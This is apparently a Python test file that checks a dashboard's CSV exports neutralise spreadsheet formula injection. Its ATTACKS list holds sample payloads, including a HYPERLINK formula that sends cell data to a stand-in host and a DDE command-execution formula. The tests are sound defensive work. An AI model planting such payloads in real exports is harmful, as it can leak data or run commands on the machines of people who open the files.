"""Formula injection is closed on every download (issue 13, item 5): one neutraliser for the
register's exports and every page's CSV, and the tables' built-in CSV button is off."""

from __future__ import annotations

import csv
import io

import pandas as pd

from dashboard.core import spreadsheet
from dashboard.register import exporter
from pipelines.settings import REPO_DIR

ATTACKS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+cmd", "@SUM(A1:A9)", "-1+2"]


def test_formula_cells_become_text_and_numbers_stay_numbers() -> None:
    assert [spreadsheet.neutralise(a) for a in ATTACKS] == ["'" + a for a in ATTACKS]
    assert [spreadsheet.neutralise(v) for v in ("-2.36", "12", "Church", 5, None)] == ["-2.36", "12", "Church", 5, None]


def test_a_page_download_neutralises_every_text_cell_and_header() -> None:
    frame = pd.DataFrame({"ward": ATTACKS, "value": [1.5, -2.0, 3.0, 4.0, 5.0], "=bad header": ["a"] * 5})

    rows = list(csv.reader(io.StringIO(spreadsheet.csv_bytes(frame).decode("utf-8"))))

    assert rows[0] == ["ward", "value", "'=bad header"]
    assert [r[0] for r in rows[1:]] == ["'" + a for a in ATTACKS]
    assert [r[1] for r in rows[1:]] == ["1.5", "-2.0", "3.0", "4.0", "5.0"]


def test_the_register_export_uses_the_same_neutraliser() -> None:
    assert exporter.neutralise is spreadsheet.neutralise


def test_no_page_writes_a_csv_without_the_neutraliser() -> None:
    pages = sorted((REPO_DIR / "dashboard").rglob("*.py"))
    offenders = [p.name for p in pages if ".to_csv(" in p.read_text(encoding="utf-8") and p.name != "exporter.py"]
    offenders = [p for p in offenders if p != "spreadsheet.py"]

    assert offenders == []
